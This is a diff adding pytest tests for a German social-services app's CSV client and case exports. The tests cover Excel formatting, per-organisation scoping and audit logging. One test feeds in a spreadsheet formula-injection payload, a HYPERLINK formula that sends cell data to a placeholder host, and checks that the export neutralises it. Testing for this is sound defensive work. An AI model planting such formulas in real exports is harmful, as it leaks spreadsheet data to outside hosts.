@@ -1,0 +1,88 @@
+"""List exports: German Excel CSV, scoped like the list, streamed, audited."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from sqlalchemy import select
+
+from models.audit import AuditEvent
+from tests.conftest import login
+from tests.factories import make_client
+
+
+def read_as_german_excel(response):
+    raw = response.get_data()
+    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
+    text = raw.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def test_client_export_is_german_excel_csv_with_only_own_rows(client, world):
+    login(client, world.a.case_manager_email)
+    response = client.get("/admin/clients/export/csv/")
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith("attachment;")
+    assert "klienten_awo_" in disposition
+    assert response.headers["Cache-Control"] == "no-store"
+    header, *rows = read_as_german_excel(response)
+    assert header[:3] == ["Aktenzeichen", "Vorname", "Nachname"]
+    assert [row[2] for row in rows] == [world.a.client_name]
+    assert world.b.client_name not in response.get_data(as_text=True)
+
+
+def test_export_shows_labels_german_dates_and_neutralises_formulas(client, world, session):
+    from models import Organisation, User
+
+    organisation = session.get(Organisation, world.a.organisation_id)
+    author = session.execute(
+        select(User).where(User.email == world.a.case_manager_email)
+    ).scalar_one()
+    make_client(
+        session,
+        organisation,
+        author,
+        first_name='=HYPERLINK("http://x/?"&A1,"x")',
+        last_name="Müller; mit\nZeilenumbruch",
+        residence_status="toleration",
+        needs_interpreter=True,
+        phone="+49 211 1234567",
+    )
+    session.commit()
+    login(client, world.a.case_manager_email)
+    header, *rows = read_as_german_excel(client.get("/admin/clients/export/csv/?search=Müller"))
+    (row,) = rows
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Vorname"] == "'=HYPERLINK(\"http://x/?\"&A1,\"x\")"
+    assert cells["Nachname"] == "Müller; mit\nZeilenumbruch"
+    assert cells["Aufenthaltsstatus"] == "Duldung"
+    assert cells["Sprachmittlung nötig"] == "ja"
+    assert cells["Einwilligung erteilt am"] == "05.01.2026"
+    assert cells["Telefon"] == "'+49 211 1234567"
+
+
+def test_export_honours_search_and_stays_scoped_with_forged_parameters(client, world):
+    login(client, world.a.case_manager_email)
+    found = read_as_german_excel(client.get(f"/admin/clients/export/csv/?search={world.b.client_name}"))
+    assert found[1:] == []
+
+
+def test_every_export_writes_one_audit_event_without_the_search_text(client, world, session):
+    login(client, world.a.case_manager_email)
+    client.get(f"/admin/clients/export/csv/?search={world.a.client_name}").get_data()
+    (event,) = session.execute(select(AuditEvent).where(AuditEvent.action == "export")).scalars()
+    assert event.organisation_id == world.a.organisation_id
+    assert event.record_type == "Client"
+    assert '"rows": 1' in event.details
+    assert world.a.client_name not in event.details
+
+
+def test_case_export_lists_topics_by_name(client, world):
+    login(client, world.a.case_manager_email)
+    header, *rows = read_as_german_excel(client.get("/admin/cases/export/csv/"))
+    cells = dict(zip(header, rows[0], strict=True))
+    assert cells["Handlungsfelder"] == "Arbeit und Beruf"
+    assert cells["Klient*in"].startswith(f"{world.a.client_name}, Amina")
